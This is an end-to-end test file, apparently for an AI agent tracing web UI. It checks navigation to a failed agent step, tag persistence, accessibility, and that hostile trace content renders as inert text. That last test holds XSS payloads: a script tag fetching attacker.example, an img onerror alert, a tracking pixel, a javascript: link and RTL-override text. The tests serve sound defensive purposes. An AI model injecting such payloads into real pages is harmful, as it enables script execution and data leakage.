/**
 * The journey this product is for: an agent failed; which step, with which input, and why?
 */
import { mkdirSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { startScriptedEndpoint } from "@sightline/eval";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { accessibilityViolations } from "../harness/accessibility.ts";
import { chromiumPath, launchBrowser, openWatchedPage } from "../harness/browser.ts";
import { exportRequestJson, newSpanId, newTraceId, postSpans } from "../harness/otlp-json.ts";
import { runTypeScript } from "../harness/programs.ts";
import { removeDataDir, type SightlineProcess, startSightline } from "../harness/sightline-process.ts";

/** Screenshots of the run, to be looked at by people. */
const screenshots = fileURLToPath(new URL("../../test-results/screenshots/", import.meta.url));

const FAILURE = "No forecast for Paris: 30 days is beyond the limit of 7.";

describe.skipIf(chromiumPath === undefined)("from the list to the failing step", () => {
  let browser: Browser;
  let server: SightlineProcess;
  let failedTraceId: string;

  beforeAll(async () => {
    mkdirSync(screenshots, { recursive: true });
    browser = await launchBrowser();
    server = await startSightline();
    const env = { SIGHTLINE_URL: server.url, SIGHTLINE_EXPERIMENT: "Default", OPENAI_API_KEY: "none" };
    const model = await startScriptedEndpoint();
    await runTypeScript(join("examples", "01-weather-agent", "agent.ts"), { ...env, OPENAI_BASE_URL: model.url });
    model.enqueue({ tool: "get_forecast", args: { city: "Paris", days: 30 } });
    // The agent ends with code 1, as it would without tracing; its trace id is what it printed last.
    const failure = await runTypeScript(join("examples", "01-weather-agent", "failing.ts"), {
      ...env,
      OPENAI_BASE_URL: model.url,
    }).then(
      () => expect.unreachable("the failing agent ended well"),
      (error: { stdout: string }) => error.stdout,
    );
    failedTraceId = /tr-[0-9a-f]{32}/.exec(failure)?.[0] ?? "";
    await model.close();
    expect(failedTraceId).not.toBe("");
  });
  afterAll(async () => {
    await browser.close();
    await server.stop();
    await removeDataDir(server.dataDir);
  });

  test("by mouse: one click on the failed row shows the failing span, its input and its message", async () => {
    const { page, problems } = await openWatchedPage(browser, server.url);
    await page.goto(`${server.url}/e/Default/traces`);
    const failedRow = page.getByTestId("trace-row").filter({ hasText: FAILURE });
    await failedRow.click();
    const detail = page.getByTestId("span-detail");
    await detail.getByTestId("span-error").waitFor();
    const text = await detail.innerText();
    expect(text).toContain("get_forecast");
    expect(text).toContain(FAILURE);
    expect(text).toContain("Paris");
    expect(await page.getByTestId("error-band").innerText()).toContain(FAILURE);
    expect(new URL(page.url()).pathname).toBe(`/e/Default/traces/${failedTraceId}`);
    expect(problems).toEqual([]);
  });

  test("by keys only: the errors view, down to the row, Enter", async () => {
    const { page, problems } = await openWatchedPage(browser, server.url);
    await page.goto(`${server.url}/e/Default/traces?q=${encodeURIComponent("status = 'ERROR'")}`);
    await page.getByTestId("trace-row").first().waitFor();
    await page.keyboard.press("j");
    await page.keyboard.press("Enter");
    expect(await page.getByTestId("span-error").innerText()).toContain(FAILURE);
    expect(problems).toEqual([]);
  });

  test("a tag edited on the page is there after a reload and found by the filter", async () => {
    const { page, problems } = await openWatchedPage(browser, server.url);
    await page.goto(`${server.url}/t/${failedTraceId}`);
    const tags = page.getByTestId("tags");
    await tags.getByRole("button", { name: /^(Add tag|Add a tag|Tag)$/ }).click();
    await page.getByLabel("Tag key").fill("triage");
    await page.getByLabel("Tag value").fill("known issue");
    await page.keyboard.press("Enter");
    await page.locator('[data-tag="triage"]').waitFor();
    await expect
      .poll(async () => {
        const answer = await fetch(`${server.url}/api/v1/traces/search`, {
          method: "POST",
          headers: { "content-type": "application/json" },
          body: JSON.stringify({ filter: "tags.triage = 'known issue'" }),
        });
        return ((await answer.json()) as { traces: { info: { traceId: string } }[] }).traces.map(
          (trace) => trace.info.traceId,
        );
      })
      .toEqual([failedTraceId]);
    await page.reload();
    expect(await page.locator('[data-tag="triage"]').innerText()).toContain("known issue");
    expect(problems).toEqual([]);
  });

  test("hostile text in a trace stays text: no request leaves the server, no script runs, no dialog opens", async () => {
    const traceId = newTraceId();
    const hostile = [
      "<script>fetch('https://attacker.example/')</script>",
      "<img src=x onerror=alert(1)>",
      "![pixel](https://attacker.example/pixel.png)",
      "[click](javascript:alert(1))",
      "\u202egnp.exe \u001b[31mred",
    ].join("\n");
    const messages = { messages: [{ role: "user", content: hostile }] };
    const answer = await postSpans(
      server.url,
      exportRequestJson(traceId, [
        {
          name: "<b>hostile</b>",
          spanId: newSpanId(),
          attributes: {
            "mlflow.spanType": "CHAT_MODEL",
            "mlflow.spanInputs": JSON.stringify(messages),
            "mlflow.spanOutputs": JSON.stringify({ choices: [{ message: { role: "assistant", content: hostile } }] }),
          },
        },
      ]),
    );
    expect(answer.status).toBe(200);
    const { page, problems } = await openWatchedPage(browser, server.url);
    await page.goto(`${server.url}/t/tr-${traceId}`);
    await page.getByTestId("span-detail").getByText("attacker.example").first().waitFor();
    expect(await page.locator("main img, main script").count()).toBe(0);
    expect(problems).toEqual([]);
  });

  for (const colorScheme of ["light", "dark"] as const) {
    for (const [width, height] of [
      [1440, 900],
      [390, 844],
    ] as const) {
      test(`list and failed trace, ${colorScheme} ${width}x${height}: no accessibility violation; screenshots taken`, async () => {
        const { page, problems } = await openWatchedPage(browser, server.url, {
          colorScheme,
          viewport: { width, height },
        });
        for (const [name, path, settled] of [
          ["list", "/e/Default/traces", "trace-row"],
          ["failed-trace", `/t/${failedTraceId}`, "span-error"],
        ] as const) {
          await page.goto(`${server.url}${path}`);
          await page.getByTestId(settled).first().waitFor();
          expect(await page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")).toBe(true);
          expect(await accessibilityViolations(page)).toEqual([]);
          await page.screenshot({ path: join(screenshots, `${name}-${colorScheme}-${width}x${height}.png`) });
        }
        expect(problems).toEqual([]);
      });
    }
  }
});
